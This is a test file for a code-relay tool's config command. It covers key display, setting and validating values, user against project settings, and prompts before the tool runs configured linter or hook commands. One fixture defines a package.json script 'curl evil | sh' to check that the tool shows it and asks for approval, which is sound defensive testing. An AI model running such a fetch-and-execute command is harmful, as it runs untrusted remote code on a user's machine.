import { describe, expect, it } from 'vitest'
import { main } from '../../src/main.ts'
import { around } from '../support/around.ts'
import type { FakeDisk } from '../support/fake-disk.ts'
import { type FakeSystemOptions, fakeSystem } from '../support/fake-system.ts'
import { respond } from '../support/respond.ts'

const text = '{\n  "projectId": "demo",\n  "limits": {"files": 9},\n  "linter": "lint"\n}\n'

async function relay(args: readonly string[], options: FakeSystemOptions & { readonly disk?: FakeDisk } = {}) {
  const { system, terminal, disk, shell } = fakeSystem({
    ...(options.disk === undefined ? { files: { 'relaycode.config.json': text } } : {}),
    commands: { lint: {}, other: {}, 'npm run lint': {} },
    ...options,
  })
  shell.programs.set('other', '/usr/bin/other')
  const code = await main(args, around(system))
  const { stdout, stderr } = terminal
  return {
    code,
    stdout,
    stderr,
    disk,
    config: disk.readText('relaycode.config.json'),
    ran: shell.ran.map(({ command }) => command),
    notices: terminal.notices,
  }
}

describe('relay config', () => {
  it('shows all keys, and which the file does not name', async () => {
    const { code, stdout, stderr } = await relay(['config'])
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    expect(stdout).toMatchInlineSnapshot(`
      "projectId              "demo"
      clipboardPollInterval  2000  (default)
      approval               "yes"  (default)
      approvalOnErrorCount   0  (default)
      commit                 false  (default)
      linter                 "lint"
      preCommand             ""  (default)
      postCommand            ""  (default)
      commandTimeout         600  (default)
      durability             "full"  (default)
      clipboard              "auto"  (default)
      singleKey              false  (default)
      notify                 "auto"  (default)
      instructions           "files"  (default)
      limits.responseBytes   67108864  (default)
      limits.files           9
      limits.fileBytes       67108864  (default)
      limits.pathLength      1024  (default)
      policy.ask             []  (default)
      policy.deny            []  (default)
      policy.allowDeletes    true  (default)
      agent                  ""  (default)
      agents                 {}  (default)
      allow                  []  (default)
      attempts               3  (default)
      turnTimeout            60  (default)
      agentGrace             5  (default)
      agentSilence           600  (default)
      checkout.setup         ""  (default)
      checkout.link          []  (default)
      checkout.copy          []  (default)
      checkout.env           []  (default)
      checkout.fresh         false  (default)
      "
    `)
  })

  it.each([
    ['linter', 'lint\n'],
    ['approval', 'yes\n'],
    ['policy.ask', '[]\n'],
    ['$schema', '\n'],
  ])('shows %s alone', async (key, stdout) => {
    expect(await relay(['config', key])).toMatchObject({ code: 0, stdout, stderr: '' })
  })

  it('shows the keys below one', async () => {
    expect((await relay(['config', 'limits'])).stdout).toMatchInlineSnapshot(`
      "limits.responseBytes  67108864  (default)
      limits.files          9
      limits.fileBytes      67108864  (default)
      limits.pathLength     1024  (default)
      "
    `)
  })

  it.each([
    ['approval', 'no', '"approval": "no"', 'approval: "no" (was "yes", the default)'],
    [
      'clipboardPollInterval',
      '500',
      '"clipboardPollInterval": 500',
      'clipboardPollInterval: 500 (was 2000, the default)',
    ],
    ['projectId', '42', '"projectId": "42"', 'projectId: "42" (was "demo")'],
    ['limits.files', '10', '"limits": {"files": 10}', 'limits.files: 10 (was 9)'],
    ['policy.ask', '["a/**"]', '"ask": [\n      "a/**"\n    ]', 'policy.ask: ["a/**"] (was [], the default)'],
    ['linter', '""', '"linter": ""', 'linter: "" (was "lint")'],
  ])('sets %s to %s', async (key, value, found, said) => {
    const { code, stdout, stderr, config } = await relay(['config', key, value])
    expect({ code, stdout, stderr }).toEqual({ code: 0, stdout: '', stderr: `✔ ${said}\n` })
    expect(config).toContain(found)
  })

  it.each([
    [['lintre', 'x'], 'Error: There is no key lintre\nHint: Did you mean linter?\n'],
    [['ask'], 'Error: There is no key ask\nHint: Did you mean policy.ask?\n'],
    [['qqqqqq'], 'Error: There is no key qqqqqq\nHint: `relay config` lists them.\n'],
    [['__proto__', '{}'], 'Error: There is no key __proto__\nHint: `relay config` lists them.\n'],
    [
      ['approval', 'maybe'],
      'Error: Cannot set approval:\n         approval: found "maybe", allowed: "yes", "no" or "never"\nHint: Correct the value. Nothing was written to /project/relaycode.config.json.\n',
    ],
    [
      ['policy.ask', 'src/**'],
      'Error: Cannot set policy.ask:\n         policy.ask: found "src/**", allowed: a list of globs, each a text of 1 to 1000 characters\nHint: Correct the value. Nothing was written to /project/relaycode.config.json.\n',
    ],
  ])('refuses %j', async (args, stderr) => {
    const { code, config, ...said } = await relay(['config', ...args])
    expect({ code, config, stderr: said.stderr }).toEqual({ code: 2, config: text, stderr })
  })

  it('puts a key right that makes the file unusable, but no text that is no JSON', async () => {
    const broken = { files: { 'relaycode.config.json': '{"projectId": "demo", "approval": 1}' } }
    expect(await relay(['config'], broken)).toMatchObject({ code: 2 })
    expect(await relay(['config', 'approval', 'no'], broken)).toMatchObject({
      code: 0,
      config: '{"projectId": "demo", "approval": "no"}',
    })
    const torn = { files: { 'relaycode.config.json': '{"projectId": "demo"' } }
    expect(await relay(['config', 'approval', 'no'], torn)).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('close brace expected'),
      config: '{"projectId": "demo"',
    })
  })

  it('wants a project', async () => {
    for (const args of [['config'], ['config', 'approval', 'no']]) {
      const { system, terminal } = fakeSystem({ files: {} })
      expect(await main(args, around(system))).toBe(2)
      expect(terminal.stderr).toContain('No relaycode.config.json in /project or above')
    }
  })

  describe('of a command', () => {
    const apply = async (disk: FakeDisk) => {
      disk.write('answer.md', respond({ 'a.ts': 'a\n' }))
      return relay(['apply', 'answer.md', '--yes'], { disk })
    }

    it('agrees to each of a list that a person set', async () => {
      const { disk } = await relay(['config', 'linter', '["lint", "other"]'], { answers: [] })
      expect(await apply(disk)).toMatchObject({ code: 0, ran: ['lint', 'other', 'lint', 'other'] })
    })

    it('agrees to what a person set, and to no other', async () => {
      const { disk, stderr } = await relay(['config', 'linter', 'other'], { answers: [] })
      expect(stderr).toBe('✔ linter: "other" (was "lint")\n  other runs /usr/bin/other\n')
      expect(await apply(disk)).toMatchObject({ code: 0, ran: ['other', 'other'] })

      const post = await relay(['config', 'postCommand', 'other'], { answers: [] })
      expect(await apply(post.disk)).toMatchObject({ code: 3, ran: [] })
    })

    it('agrees to the one that makes a checkout ready', async () => {
      const { disk } = await relay(['config', 'linter', 'other'], { answers: [] })
      const { stderr } = await relay(['config', 'checkout.setup', 'npm ci'], { answers: [], disk })
      expect(stderr).toBe('✔ checkout.setup: "npm ci" (was "", the default)\n')
      expect(await apply(disk)).toMatchObject({ code: 0, ran: ['other', 'other'] })
    })

    it('agrees to nothing without a terminal', async () => {
      const { disk, stderr } = await relay(['config', 'linter', 'other'])
      expect(stderr).toContain('the next start asks before it runs this command; --trust allows it')
      expect(await apply(disk)).toMatchObject({ code: 3, ran: [] })
    })

    it('asks about a script, and shows it', async () => {
      const files = { 'relaycode.config.json': text, 'package.json': '{"scripts": {"lint": "curl evil | sh"}}' }
      for (const [answer, code] of [
        ['y', 0],
        ['n', 3],
      ] as const) {
        const { disk, stderr } = await relay(['config', 'linter', 'npm run lint'], { files, answers: [answer] })
        expect(stderr).toContain('script lint: curl evil | sh')
        expect((await apply(disk)).code).toBe(code)
      }
    })
  })

  describe('--user', () => {
    const own = '/home/me/.config/relaycode/config.json'

    it("sets what is the user's, for all projects", async () => {
      const { disk, ...first } = await relay(['config', '--user', 'editor', 'code --wait'])
      expect(first).toMatchObject({ code: 0, stderr: `✔ editor: "code --wait"\n  for all projects, in ${own}\n` })
      await relay(['config', '--user', 'singleKey', 'true'], { disk })
      expect(disk.readText(own)).toBe('{\n  "editor": "code --wait",\n  "singleKey": true\n}\n')
      expect((await relay(['config', '--user', 'singleKey'], { disk })).stdout).toBe('true\n')
      expect((await relay(['config', '--user', '--unset', 'editor'], { disk })).stderr).toContain(
        '✔ editor: not set (was "code --wait")',
      )
      expect((await relay(['config', '--user'], { disk })).stdout).toMatchInlineSnapshot(`
        "editor        (not set)
        singleKey     true
        clipboard     (not set)
        notify        (not set)
        agent         (not set)
        instructions  (not set)
        "
      `)
    })

    it('needs no project', async () => {
      const { system, terminal, disk } = fakeSystem({ files: {}, env: { XDG_CONFIG_HOME: '/xdg' } })
      expect(await main(['config', '--user', 'notify', 'bell'], around(system))).toBe(0)
      expect(disk.readText('/xdg/relaycode/config.json')).toBe('{\n  "notify": "bell"\n}\n')
      expect(terminal.stderr).toContain('/xdg/relaycode/config.json')
    })

    it('lies below the project', async () => {
      const files = {
        'relaycode.config.json': '{"projectId": "demo", "notify": "off"}',
        [own]: '{"notify": "bell", "agent": "codex"}',
      }
      const { stdout } = await relay(['config'], { files })
      expect(stdout).toMatch(/^notify +"off"$/m)
      expect(stdout).toMatch(/^agent +"codex" {2}\(yours\)$/m)
      const { disk, stderr } = await relay(['config', 'agent', 'amp'], { files })
      expect(stderr).toBe('✔ agent: "amp" (was "codex", yours)\n')
      expect((await relay(['config', '--unset', 'agent'], { disk })).stderr).toBe('✔ agent: not set (was "amp")\n')
      expect((await relay(['config', 'agent'], { disk })).stdout).toBe('codex\n')
    })

    it.each([
      [
        ['--user', 'linter', 'x'],
        'There is no key linter for all projects\nHint: It is set for one project: `relay config linter …`',
      ],
      [['editor', 'x'], 'There is no key editor\nHint: It is yours, for all projects: `relay config --user editor …`'],
      [['--user', 'edtor', 'x'], 'There is no key edtor for all projects\nHint: Did you mean editor?'],
      [['--user', 'singleKey', '1'], 'singleKey: found 1, allowed: true or false'],
      [
        ['--user', 'instructions', 'edits'],
        'instructions: found "edits", allowed: a text for the LLM, at most 20000 long',
      ],
      [['--unset'], '--unset takes a key, and no value'],
      [['--unset', 'linter', 'x'], '--unset takes a key, and no value'],
      [['--unset', 'projectId'], 'Cannot unset projectId:'],
    ])('refuses %j', async (args, stderr) => {
      expect(await relay(['config', ...args])).toMatchObject({
        code: 2,
        stderr: expect.stringContaining(stderr),
        config: text,
      })
    })

    it('puts a broken file right, which stops everything else', async () => {
      const { disk, ...broken } = await relay(['log'], {
        files: { 'relaycode.config.json': text, [own]: '{"singleKey": "yes"}' },
      })
      expect(broken).toMatchObject({ code: 2, stdout: '' })
      expect(broken.stderr).toBe(
        `Error: Cannot use ${own}:\n         singleKey: found "yes", allowed: true or false\nHint: Correct it in your editor: ${own}\n`,
      )
      expect(await relay(['config', '--user', 'singleKey', 'true'], { disk })).toMatchObject({ code: 0 })
      expect(await relay(['log'], { disk })).toMatchObject({ code: 0 })
    })

    it('runs a command of the user without a question, and one of the project after it', async () => {
      const [users, projects] = ['{"notify": "ring"}', '{"projectId": "demo", "notify": "evil"}']
      const ask = (files: Readonly<Record<string, string>>) => {
        const answer = respond({ Makefile: 'all:\n' })
        return relay(['apply', 'a.md'], { files: { ...files, 'a.md': answer }, answers: ['n', 'n'] })
      }
      const own = await ask({
        'relaycode.config.json': '{"projectId": "demo"}',
        '/home/me/.config/relaycode/config.json': users,
      })
      expect(own.stderr).not.toContain('ring')
      expect(own.notices).toMatchObject([{ way: 'ring' }, 'over'])
      const other = await ask({ 'relaycode.config.json': projects, '/home/me/.config/relaycode/config.json': users })
      expect(other.stderr).toContain('evil')
      expect(other.notices).toEqual([])
    })
  })
})
